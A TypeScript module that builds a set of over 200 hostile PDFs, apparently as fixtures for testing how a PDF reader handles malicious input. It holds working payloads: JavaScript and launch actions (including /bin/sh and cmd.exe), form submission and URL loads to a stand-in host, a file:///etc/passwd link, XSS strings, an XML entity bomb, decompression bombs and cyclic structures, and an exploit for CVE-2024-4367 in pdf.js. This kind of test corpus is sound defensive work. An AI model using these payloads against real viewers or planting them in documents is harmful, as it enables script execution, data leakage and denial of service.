import { deflateSync } from 'node:zlib'

type Objects = Record<number, string | Buffer>

interface Structure {
  header?: string
  /** More entries of the trailer. */
  trailer?: string
  /** Changes the table of objects, which is right otherwise. */
  table?: (table: string) => string
  /** After `%%EOF`. */
  after?: string
}

/** A PDF of these objects, of which the first is the catalogue (ISO 32000-2, 7.5). */
function write(
  objects: Objects,
  { header = '%PDF-1.7\n%\xff\xff\xff\xff\n', trailer = '', table = (one) => one, after = '' }: Structure = {},
) {
  const parts: Buffer[] = []
  let size = 0
  const places = new Map<number, number>()
  const add = (part: string | Buffer) => {
    const bytes = typeof part === 'string' ? Buffer.from(part, 'latin1') : part
    parts.push(bytes)
    size += bytes.length
  }
  add(header)
  for (const [number, content] of Object.entries(objects)) {
    places.set(Number(number), size)
    add(`${number} 0 obj\n`)
    add(content)
    add('\nendobj\n')
  }
  const count = Math.max(...places.keys()) + 1
  const lines = Array.from({ length: count }, (_, number) => {
    const place = places.get(number)
    return `${String(place ?? 0).padStart(10, '0')} ${place === undefined ? '65535 f' : '00000 n'} \n`
  })
  const begin = size
  add(table(`xref\n0 ${count}\n${lines.join('')}trailer\n<</Size ${count}/Root 1 0 R${trailer}>>\nstartxref\n${begin}\n%%EOF\n`) + after)
  return Buffer.concat(parts)
}

const stream = (content: string | Buffer, entries = '') => {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content
  return Buffer.concat([
    Buffer.from(`<</Length ${bytes.length}${entries}>>stream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream', 'latin1'),
  ])
}

const words = 'BT /F 12 Tf 20 100 Td (A hostile page) Tj ET'

interface Parts {
  catalog?: string
  page?: string
  resources?: string
  content?: string | Buffer
  contentEntries?: string
  pages?: string
  mediaBox?: string
  more?: Objects
}

/** A document of one page with words. */
const page = (
  {
    catalog = '',
    page: ofPage = '',
    resources = '',
    content = words,
    contentEntries = '',
    pages = '',
    mediaBox = '0 0 200 200',
    more,
  }: Parts,
  structure?: Structure,
) =>
  write(
    {
      1: `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
      2: `<</Type/Pages${pages || '/Kids[3 0 R]/Count 1'}>>`,
      3: `<</Type/Page/Parent 2 0 R/MediaBox[${mediaBox}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>${resources}>>${ofPage}>>`,
      4: stream(content, contentEntries),
      5: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
      ...more,
    },
    structure,
  )

const script = "app.alert\\(1\\);this.submitForm\\('https://elsewhere.example/form'\\);app.launchURL\\('https://elsewhere.example/'\\)"

/** What a PDF can ask a program to do (ISO 32000-2, 12.6.4). */
const actions: Record<string, string> = {
  script: `<</S/JavaScript/JS(${script})>>`,
  'script in a stream': '<</S/JavaScript/JS 30 0 R>>',
  address: '<</S/URI/URI(https://elsewhere.example/a)>>',
  'address that is a script': '<</S/URI/URI(javascript:alert\\(1\\))>>',
  'address that is a document': '<</S/URI/URI(data:text/html,<script>alert\\(1\\)</script>)>>',
  'address of a file': '<</S/URI/URI(file:///etc/passwd)/IsMap true>>',
  program: '<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>/NewWindow true>>',
  'other document': '<</S/GoToR/F(https://elsewhere.example/b.pdf)/D[0/Fit]/NewWindow true>>',
  'document of a network': '<</S/GoToR/F(\\\\\\\\elsewhere.example\\\\c.pdf)/D[0/Fit]>>',
  'embedded document': '<</S/GoToE/F(https://elsewhere.example/d.pdf)/T<</R/C/N(a)>>/D[0/Fit]>>',
  form: '<</S/SubmitForm/F<</FS/URL/F(https://elsewhere.example/form)>>/Flags 4>>',
  import: '<</S/ImportData/F(https://elsewhere.example/data.fdf)>>',
  print: '<</S/Named/N/Print>>',
  rendition: `<</S/Rendition/OP 0/JS(${script})/R<</S/MR/C<</S/MCD/D<</FS/URL/F(https://elsewhere.example/a.mp4)>>/CT(video/mp4)>>>>>>`,
  sound: '<</S/Sound/Sound 31 0 R>>',
  movie: '<</S/Movie/T(a)/Operation/Play>>',
  thread: '<</S/Thread/F(https://elsewhere.example/t.pdf)/D 0>>',
  'several in a row': `<</S/Named/N/NextPage/Next[<</S/JavaScript/JS(${script})>><</S/URI/URI(https://elsewhere.example/n)>>]>>`,
}

const ofActions: Objects = {
  30: stream(script.replaceAll('\\', '')),
  31: stream('', '/R 8000/F<</FS/URL/F(https://elsewhere.example/a.wav)>>'),
}
const wholePage = '/Rect[0 0 200 200]/F 4'

/** When a program would do it: as the document opens, as a page is shown, or at a press. */
const triggers: Record<string, (action: string) => Parts> = {
  'as it opens': (action) => ({ catalog: `/OpenAction ${action}` }),
  'as it closes, is printed or saved': (action) => ({
    catalog: `/AA<<${['WC', 'WS', 'DS', 'WP', 'DP'].map((key) => `/${key} ${action}`).join('')}>>`,
  }),
  'by a name': (action) => ({ catalog: `/Names<</JavaScript<</Names[(a)${action}]>>>>` }),
  'as the page is shown': (action) => ({ page: `/AA<</O ${action}/C ${action}>>` }),
  'at a link': (action) => ({ page: `/Annots[<</Type/Annot/Subtype/Link${wholePage}/A ${action}/PA ${action}>>]` }),
  'at a field': (action) => ({
    catalog: '/AcroForm<</Fields[32 0 R]/NeedAppearances true>>',
    page: '/Annots[32 0 R]',
    more: {
      32: `<</Type/Annot/Subtype/Widget${wholePage}/FT/Tx/T(a)/V(b)/A ${action}/AA<<${['E', 'X', 'D', 'U', 'Fo', 'Bl', 'PO', 'PC', 'PV', 'PI', 'K', 'F', 'V', 'C'].map((key) => `/${key} ${action}`).join('')}>>>>`,
    },
  }),
  'at a screen': (action) => ({ page: `/Annots[<</Type/Annot/Subtype/Screen${wholePage}/A ${action}/AA<</PO ${action}/PV ${action}>>>>]` }),
  'in the contents': (action) => ({
    catalog: '/Outlines 32 0 R/PageMode/UseOutlines',
    more: { 32: '<</Type/Outlines/First 33 0 R/Last 33 0 R/Count 1>>', 33: `<</Title(Elsewhere)/Parent 32 0 R/A ${action}>>` },
  }),
}

const nested = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth)
/** So many megabytes, in about a thousandth of that. */
const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 })
const deflated = (content: string | Buffer) => deflateSync(content)
const image = (entries: string, content: Buffer = Buffer.alloc(0)): Parts => ({
  resources: '/XObject<</X 30 0 R>>',
  content: `q 100 0 0 100 0 0 cm /X Do Q ${words}`,
  more: { 30: stream(content, `/Type/XObject/Subtype/Image${entries}`) },
})
const drawing = (content: string, entries = ''): Parts => ({
  resources: '/XObject<</X 30 0 R>>/Pattern<</P 31 0 R>>',
  content: `/X Do ${words}`,
  more: { 30: stream(content, `/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</X 30 0 R>>>>${entries}`) },
})

/** Documents that are broken, or much larger than their file. */
const structures: Record<string, () => Buffer> = {
  'nothing after its header': () => Buffer.from('%PDF-1.7\n'),
  'no header': () => page({}, { header: '' }),
  'a header after much else': () => page({}, { header: `${'x'.repeat(2000)}%PDF-1.7\n` }),
  'half of a document': () => page({}).subarray(0, 300),
  'no table of objects': () => page({}, { table: () => '' }),
  'a table with wrong places': () => page({}, { table: (one) => one.replaceAll(/\d{10} 00000 n/g, '0000000009 00000 n') }),
  'a table with places beyond the end': () => page({}, { table: (one) => one.replaceAll(/\d{10} 00000 n/g, '9999999999 00000 n') }),
  'a table of a billion lines': () => page({}, { table: (one) => one.replace(/^xref\n0 \d+/, 'xref\n0 1000000000') }),
  'a table that follows itself': () =>
    page({}, { table: (one) => one.replace('/Root', `/Prev ${/startxref\n(\d+)/.exec(one)?.[1]}/Root`) }),
  'a trailer whose size is negative': () => page({}, { table: (one) => one.replace(/\/Size \d+/, '/Size -5') }),
  'a trailer whose size is enormous': () => page({}, { table: (one) => one.replace(/\/Size \d+/, '/Size 4294967295') }),
  'a trailer without a catalogue': () => page({}, { table: (one) => one.replace('/Root 1 0 R', '') }),
  'a start of the table that is negative': () => page({}, { table: (one) => one.replace(/startxref\n\d+/, 'startxref\n-1') }),
  'two ends': () => page({}, { after: 'startxref\n0\n%%EOF\n' }),
  'a second document after its end': () => page({}, { after: page({ content: words }).toString('latin1') }),
  'a catalogue that is its own list of pages': () => write({ 1: '<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1>>' }),
  'pages that contain themselves': () => page({ pages: '/Kids[2 0 R 2 0 R]/Count 2' }),
  'pages that contain each other': () =>
    page({ pages: '/Kids[30 0 R]/Count 1', more: { 30: '<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>' } }),
  'a page that is its own parent': () => page({ page: '/Parent 3 0 R' }),
  'two billion pages': () => page({ pages: '/Kids[3 0 R]/Count 2000000000' }),
  'a million pages': () => page({ pages: '/Kids[3 0 R]/Count 1000000' }),
  'a negative number of pages': () => page({ pages: '/Kids[3 0 R]/Count -1' }),
  'a number of pages that is a text': () => page({ pages: '/Kids[3 0 R]/Count(many)' }),
  'the same page a hundred thousand times': () => page({ pages: `/Kids[${'3 0 R '.repeat(100_000)}]/Count 100000` }),
  'a list of pages that is missing': () => page({ pages: '/Kids 99 0 R/Count 1' }),
  'an object that is a reference to itself': () => page({ page: '/Annots 30 0 R', more: { 30: '30 0 R' } }),
  'references in a ring': () => page({ page: '/Annots 30 0 R', more: { 30: '31 0 R', 31: '30 0 R' } }),
  'lists in lists': () => page({ page: `/X ${nested('[', ']', 100_000)}` }),
  'dictionaries in dictionaries': () => page({ page: `/X ${nested('<</A', '>>', 50_000)}` }),
  'texts in texts': () => page({ page: `/X ${nested('(', ')', 200_000)}` }),
  'an unfinished text': () => page({ page: `/X(${'a'.repeat(100_000)}` }),
  'lists in the content': () => page({ content: nested('[', ']', 100_000) + words }),
  'a hundred thousand saved states': () => page({ content: 'q '.repeat(100_000) + words }),
  'a million restored states': () => page({ content: 'Q '.repeat(1_000_000) + words }),
  'many shapes': () => page({ content: deflated(`${'0 0 m 200 200 l S '.repeat(20_000)}${words}`), contentEntries: '/Filter/FlateDecode' }),
  'numbers without end': () => page({ content: `${'9'.repeat(100_000)} ${'-'.repeat(1000)}5 w ${words}` }),
  'a stream whose length is a lie': () => page({ more: { 4: `<</Length 999999999>>stream\n${words}\nendstream` } }),
  'a stream whose length is itself': () => page({ more: { 4: `<</Length 4 0 R>>stream\n${words}\nendstream` } }),
  'a stream without an end': () => page({ more: { 4: `<</Length 44>>stream\n${words}` } }),
  'a stream of another site': () => page({ contentEntries: '/F<</FS/URL/F(https://elsewhere.example/stream)>>/FFilter/FlateDecode' }),
  'a picture of another site': () =>
    page(image('/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(https://elsewhere.example/p.jpg)>>')),
  'content of 100 MB in 100 kB': () => page({ content: zeros(100), contentEntries: '/Filter/FlateDecode' }),
  'content of 100 MB, compressed twice': () => page({ content: deflated(zeros(100)), contentEntries: '/Filter[/FlateDecode/FlateDecode]' }),
  'filters without end': () => page({ content: words, contentEntries: `/Filter[${'/ASCIIHexDecode'.repeat(1000)}]` }),
  'a filter that nobody knows': () => page({ content: words, contentEntries: '/Filter/Nothing' }),
  'broken compressed content': () => page({ content: zeros(1).fill(255, 20, 60), contentEntries: '/Filter/FlateDecode' }),
  'runs of bytes': () => page({ content: Buffer.alloc(100_000, 129), contentEntries: '/Filter/RunLengthDecode' }),
  'a predictor of enormous rows': () =>
    page({
      content: zeros(1),
      contentEntries: '/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>',
    }),
  'a picture of ten billion points': () =>
    page(image('/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode', zeros(10))),
  'a picture of negative size': () => page(image('/Width -5/Height 3/ColorSpace/DeviceRGB/BitsPerComponent 8')),
  'a picture that is its own mask': () =>
    page(image('/Width 2/Height 2/ColorSpace/DeviceGray/BitsPerComponent 8/SMask 30 0 R', Buffer.alloc(4))),
  'a picture in broken JPEG': () => page(image('/Width 9/Height 9/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode', zeros(1))),
  'a picture in broken JPEG 2000': () => page(image('/Width 9/Height 9/Filter/JPXDecode', Buffer.from('\0\0\0\fjP  \r\n\x87\n', 'latin1'))),
  'a picture in broken JBIG2': () => page(image('/Width 9/Height 9/BitsPerComponent 1/Filter/JBIG2Decode', Buffer.alloc(100, 255))),
  'a picture in a broken fax': () =>
    page(
      image('/Width 9/Height 99999999/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2000000000>>', Buffer.alloc(100)),
    ),
  'a colour of itself': () =>
    page({ resources: '/ColorSpace<</C 30 0 R>>', content: `/C cs 1 sc ${words}`, more: { 30: '[/Indexed 30 0 R 255(a)]' } }),
  'a drawing in itself': () => page(drawing('/X Do')),
  'a drawing that repeats itself a thousand times': () => page(drawing('/X Do '.repeat(1000))),
  'a pattern in itself': () =>
    page({
      resources: '/Pattern<</P 30 0 R>>',
      content: `/Pattern cs /P scn 0 0 200 200 re f ${words}`,
      more: {
        30: stream(
          '/Pattern cs /P scn 0 0 9 9 re f',
          '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<</Pattern<</P 30 0 R>>>>',
        ),
      },
    }),
  'a pattern of tiny tiles': () =>
    page({
      resources: '/Pattern<</P 30 0 R>>',
      content: `/Pattern cs /P scn 0 0 200 200 re f ${words}`,
      more: {
        30: stream(
          '0 0 1 1 re f',
          '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.00001/YStep 0.00001/Resources<<>>',
        ),
      },
    }),
  'a shading by an endless function': () =>
    page({
      resources: '/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 30 0 R>>>>',
      content: `/S sh ${words}`,
      more: { 30: '<</FunctionType 3/Domain[0 1]/Functions[30 0 R 30 0 R]/Bounds[0.5]/Encode[0 1 0 1]>>' },
    }),
  'a calculator without end': () =>
    page({
      resources: '/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 30 0 R>>>>',
      content: `/S sh ${words}`,
      more: { 30: stream(nested('{', '}', 20_000), '/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]') },
    }),
  'a function of too many samples': () =>
    page({
      resources: '/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 30 0 R>>>>',
      content: `/S sh ${words}`,
      more: {
        30: stream('a', '/FunctionType 0/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Size[100000 100000]/BitsPerSample 32'),
      },
    }),
  'a letter that draws itself': () =>
    page({
      more: {
        5: '<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</A 30 0 R>>/Encoding<</Differences[65/A]>>/FirstChar 65/LastChar 65/Widths[1]/Resources<</Font<</F 5 0 R>>>>>>',
        30: stream('1 0 d0 BT /F 1 Tf (A) Tj ET'),
      },
    }),
  'a font of nothing': () =>
    page({
      more: {
        5: '<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 30 0 R/FirstChar 0/LastChar 255/Widths[1]>>',
        30: '<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 31 0 R>>',
        31: stream(Buffer.alloc(1000, 255)),
      },
    }),
  'a font whose names break out': () =>
    page({ more: { 5: '<</Type/Font/Subtype/Type1/BaseFont/A#22#29#7d*#7bbackground#3aurl#28https#3a#2f#2felsewhere.example#29>>' } }),
  // CVE-2024-4367: a matrix of a font that older versions of pdf.js compiled to a function.
  'a font matrix that is a script': () =>
    page({
      more: {
        5: `<</Type/Font/Subtype/Type1/BaseFont/A/FontMatrix[1 2 3 4 5(0\\); alert\\('ran')]/FontDescriptor<</Type/FontDescriptor/FontName/A/Flags 4/FontFile 30 0 R>>/Encoding<</Differences[65/A]>>/FirstChar 65/LastChar 65/Widths[500]>>`,
        30: stream(
          "%!PS-AdobeFont-1.0: A\n/FontMatrix [0.001 0 0 0.001 0 (0\\); alert\\('ran')] def\neexec",
          '/Length1 90/Length2 0/Length3 0',
        ),
      },
    }),
  'a map of characters that uses itself': () =>
    page({
      more: {
        5: '<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 30 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>>>]>>',
        30: stream(
          '1 begincodespacerange <0000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange',
          '/UseCMap 30 0 R',
        ),
      },
    }),
  'an enormous page': () => page({ mediaBox: '0 0 1e9 1e9' }),
  'a page without a size': () => page({ mediaBox: '0 0 0 0' }),
  'a page of a negative size': () => page({ mediaBox: '100 100 -100 -1e30' }),
  'a page that is not a number wide': () => page({ mediaBox: '(a) null /b true' }),
  'a page a million times as high as wide': () => page({ mediaBox: '0 0 1 1000000' }),
  'a page in enormous units': () => page({ page: '/UserUnit 1000000' }),
  'a page turned by an odd angle': () => page({ page: '/Rotate 37' }),
  'a locked document': () =>
    page({}, { trailer: `/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O<${'41'.repeat(32)}>/U<${'42'.repeat(32)}>>>/ID[<41><41>]` }),
  'a lock that nobody knows': () => page({}, { trailer: '/Encrypt<</Filter/Unknown/V 99/P -1>>/ID[<41><41>]' }),
  'a lock that is a number': () => page({}, { trailer: '/Encrypt 7' }),
  'a form in XML': () =>
    page({
      catalog: '/AcroForm<</Fields[]/XFA 30 0 R>>/NeedsRendering true',
      more: {
        30: stream(
          '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "https://elsewhere.example/c">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field><event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox("ran")</script></event></field></subform></template>&b;&c;</xdp:xdp>',
        ),
      },
    }),
  'an embedded program': () =>
    page({
      catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 30 0 R>>>>]>>>>',
      page: `/Annots[<</Type/Annot/Subtype/FileAttachment${wholePage}/FS<</Type/Filespec/F(a.exe)/EF<</F 30 0 R>>>>>>]`,
      more: { 30: stream('MZ', '/Type/EmbeddedFile') },
    }),
  'rich media': () =>
    page({
      page: `/Annots[<</Type/Annot/Subtype/RichMedia${wholePage}/RichMediaSettings<</Activation<</Condition/PO>>>>/RichMediaContent<</Assets<</Names[(a.swf)<</Type/Filespec/FS/URL/F(https://elsewhere.example/a.swf)>>]>>>>>>]`,
    }),
  'a film': () =>
    page({
      page: `/Annots[<</Type/Annot/Subtype/Movie${wholePage}/Movie<</F<</FS/URL/F(https://elsewhere.example/a.avi)>>/Poster true>>/A true>>]`,
    }),
  'twenty thousand notes': () => page({ page: `/Annots[${'<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(a)>>'.repeat(20_000)}]` }),
  'contents that follow themselves': () =>
    page({
      catalog: '/Outlines 30 0 R',
      more: {
        30: '<</Type/Outlines/First 31 0 R/Last 31 0 R>>',
        31: '<</Title(a)/Parent 30 0 R/Next 31 0 R/First 31 0 R/Dest[3 0 R/Fit]>>',
      },
    }),
  'contents with markup': () =>
    page({
      catalog: '/Outlines 30 0 R',
      more: {
        30: '<</Type/Outlines/First 31 0 R/Last 31 0 R>>',
        31: '<</Title(<img src=x onerror=alert\\(1\\)>)/Parent 30 0 R/Dest[3 0 R/Fit]>>',
      },
    }),
  'names in a ring': () =>
    page({ catalog: '/Names<</Dests 30 0 R>>/OpenAction(a)', more: { 30: '<</Kids[30 0 R 30 0 R]/Limits[(a)(z)]>>' } }),
  'labels of pages in a ring': () => page({ catalog: '/PageLabels 30 0 R', more: { 30: '<</Kids[30 0 R]/Limits[0 9]>>' } }),
  'a tree of tags in a ring': () =>
    page({
      catalog: '/MarkInfo<</Marked true>>/StructTreeRoot 30 0 R',
      page: '/StructParents 0',
      more: { 30: '<</Type/StructTreeRoot/K 30 0 R/ParentTree 30 0 R/Kids[30 0 R]>>' },
    }),
  'layers in a ring': () =>
    page({
      catalog: '/OCProperties<</OCGs[30 0 R]/D<</Order 31 0 R/ON[30 0 R]>>>>',
      more: { 30: '<</Type/OCG/Name(a)>>', 31: '[31 0 R 31 0 R]' },
    }),
  'metadata with markup': () =>
    page({
      catalog: '/Metadata 30 0 R',
      more: { 30: stream('<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script></x:xmpmeta>', '/Type/Metadata/Subtype/XML') },
    }),
  'words with markup': () =>
    page({ content: 'BT /F 12 Tf 20 100 Td (<img src=x onerror=alert\\(1\\)><script>alert\\(1\\)</script>) Tj ET' }),
  'objects in a stream that contains itself': () =>
    write(
      { 1: '<</Type/Catalog/Pages 2 0 R>>', 30: stream('30 0 2 20 <</Type/ObjStm>>', '/Type/ObjStm/N 2/First 10/Extends 30 0 R') },
      {
        table: () => {
          const lines = Buffer.from(
            [
              [1, 0, 9, 0],
              [2, 0, 30, 1],
              [2, 0, 30, 0],
            ].flat(),
          )
          return `40 0 obj\n${stream(lines, '/Type/XRef/W[1 2 1]/Index[1 2 30 1]/Size 41/Root 1 0 R').toString('latin1')}\nendobj\nstartxref\n180\n%%EOF\n`
        },
      },
    ),
  'a page of HTML': () => Buffer.from('<!doctype html><script>alert(1)</script>%PDF-1.7'),
  'an empty file': () => Buffer.alloc(0),
}

/** At least 200 PDFs that try to run, to load from elsewhere, or to use up a program that reads them, by what they do. */
export function hostilePdfs(): Map<string, Buffer> {
  const withActions = Object.entries(triggers).flatMap(([when, place]) =>
    Object.entries(actions).map(([what, action]): [string, Buffer] => {
      const parts = place(action)
      return [`${what} ${when}`, page({ ...parts, more: { ...ofActions, ...parts.more } })]
    }),
  )
  return new Map([...withActions, ...Object.entries(structures).map(([name, make]): [string, Buffer] => [name, make()])])
}

/** The names of those that are broken, or much larger than their file. */
export const hostileStructures = Object.keys(structures)
